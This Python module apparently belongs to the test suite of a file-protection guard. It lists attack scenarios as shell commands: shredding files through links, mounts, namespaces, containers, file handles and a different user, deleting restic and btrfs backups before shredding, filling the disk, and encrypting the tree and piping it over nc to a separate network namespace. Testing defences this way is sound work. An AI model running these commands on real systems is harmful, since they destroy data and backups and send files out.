# SPDX-License-Identifier: Apache-2.0
"""Attacks from another side: other ways to the same files, other identities, recovery first, data taken away.

Mounts are of the run's own mount namespace, networks of the attack's own.
"""
from pathlib import Path

from attack import EACH, FILES, Attack, Outcome

SHRED = f"{FILES} -print0 | xargs -0 shred -n1"
BY_HANDLE = Path(__file__).with_name("by_handle.py")

# A root file system of its own, in namespaces of its own, with the tree at /data: what a container is.
CONTAINER = '''unshare --mount --pid --fork --ipc --uts sh -c '
top="$SCRATCH/container"; mkdir "$top"; mount -t tmpfs container "$top"
for d in usr lib lib64 bin dev data; do mkdir "$top/$d"; done
for d in usr lib lib64 bin dev; do mount --bind "/$d" "$top/$d"; done
mount --bind . "$top/data"; cd "$top/data"
exec chroot "$top" sh -c "cd /data && find . -type f ! -name .\\* -print0 | xargs -0 shred -n1"' '''

# To a host of the attack's own: another network namespace, over a veth pair. Both go with the attack.
SENT = '''unshare --net bash -c '
unshare --net sh -c "until ip address add 10.99.0.2/24 dev peer0 2> /dev/null; do sleep 0.05; done
    ip link set peer0 up; exec nc -l -p 4000 > /dev/null" & peer=$!
while [ "$(readlink /proc/$peer/ns/net)" = "$(readlink /proc/$$/ns/net)" ]; do sleep 0.05; done
ip link add here0 type veth peer name peer0 netns $peer; ip address add 10.99.0.1/24 dev here0; ip link set here0 up
sleep 1; {} | nc -N 10.99.0.2 4000; wait; sleep 3; :' '''
KEYS = 'age-keygen -o "$SCRATCH/key"; age-keygen -y "$SCRATCH/key" > "$SCRATCH/public"'
AGE = 'age -R "$SCRATCH/public"'

BACKUPS = '''export RESTIC_PASSWORD=x; restic -q init -r backup
for n in 1 2 3; do head -c 3000000 /dev/urandom > "$SCRATCH/data"; restic -q backup -r backup "$SCRATCH/data"; done'''

ELSEWHERE = {
    "S12-link-to-null": Attack(f'{FILES} -print0 | xargs -0 -n1 ln -sf /dev/null'),
    "S12-own-hard-link": Attack(f'{EACH} ln "$f" "$BESIDE/x"; shred -n1 "$BESIDE/x"; rm "$BESIDE/x"; done',
                                whole=True),
    "S12-hard-links-of-all": Attack(f'n=0; {EACH} ln "$f" "$BESIDE/$((n++))"; done; shred -n1 "$BESIDE"/*', whole=True),
    "S12-bind-mount": Attack(f'mkdir "$SCRATCH/view"; mount --bind . "$SCRATCH/view"; cd "$SCRATCH/view"; {SHRED}',
                             afterwards='umount -l "$SCRATCH/view"'),
    "S12-second-mount": Attack(f'mkdir "$SCRATCH/second"; mount "$(findmnt -n -o SOURCE -T .)" "$SCRATCH/second"; '
                               f'cd "$SCRATCH/second/share/office"; {SHRED}', afterwards='umount -l "$SCRATCH/second"'),
    "S12-mount-namespace": Attack(f"unshare --mount sh -c '{SHRED}'"),
    "S12-proc-self-fd": Attack(f'{EACH} exec 9< "$f"; dd if=/dev/urandom of=/proc/self/fd/9 bs=4096 count=2 '
                               'conv=notrunc status=none; done'),
    "S12-by-handle": Attack(f"{FILES} -print0 | python3 '{BY_HANDLE}' \"$BESIDE\"", whole=True),
    "S15-top-folder": Attack("mv ../office ../elsewhere", outcome=Outcome.TOLD),
    "S15-top-folder-out": Attack('mv ../office "$BESIDE/office"', outcome=Outcome.TOLD),
    "S15-mount-over": Attack('mount -t tmpfs nothing "$TREE"', afterwards='umount -l "$TREE"',
                             outcome=Outcome.UNHARMED, seconds=20),
    "S15-mount-over-and-shred": Attack(f'{SHRED} & mount -t tmpfs nothing "$TREE"; wait',
                                       afterwards='umount -l "$TREE"'),
    "S19-service-account": Attack(f"setpriv --reuid=33 --regid=33 --clear-groups --inh-caps=-all sh -c '{SHRED}'",
                                  before_guard="chown -R 33:33 ."),
    "S19-container": Attack(CONTAINER),
    "S19-timer": Attack(f"setsid -f sh -c 'sleep 2; {SHRED}'; sleep 6"),
    "S19-backup-agent": Attack("rsync -a . \"$SCRATCH/copy1\"; rsync -a . \"$SCRATCH/copy2\"; "
                               f"{SHRED}", ("rsync",)),
    "S21-restic": Attack('export RESTIC_PASSWORD=x; restic -q forget -r backup --prune $(restic -q snapshots -r backup '
                         '--json | grep -o \'"short_id":"[0-9a-f]*"\' | cut -d\\" -f4)' f'; {SHRED}', ("restic",),
                         before_guard=BACKUPS),
    "S21-subvolume": Attack(f'btrfs -q subvolume delete snapshots; {SHRED}', ("btrfs",), fs=("btrfs",),
                            before_guard='btrfs -q subvolume create snapshots; for n in $(seq 40); do '
                                         'head -c 9000 /usr/bin/perl > "snapshots/$n"; done'),
    "S21-flood": Attack('for n in $(seq 8); do dd if=/dev/urandom of="junk$((n % 2))" bs=1M count=150 status=none; '
                        f'done; {SHRED}'),
    "S22-tar-age-nc": Attack(SENT.format(f'tar c . | {AGE}'), ("age", "nc"), KEYS, outcome=Outcome.TOLD),
    "S22-throttled": Attack(SENT.format(f'{EACH} {AGE} "$f"; sleep 0.01; done'), ("age", "nc"), KEYS,
                            outcome=Outcome.TOLD),
    "S22-staged": Attack('7z a -psecret -mhe=on -bd -bso0 -bsp0 "$BESIDE/all.7z" . && '
                         + SENT.format('cat "$BESIDE/all.7z"'), ("7z", "nc"), outcome=Outcome.TOLD),
}
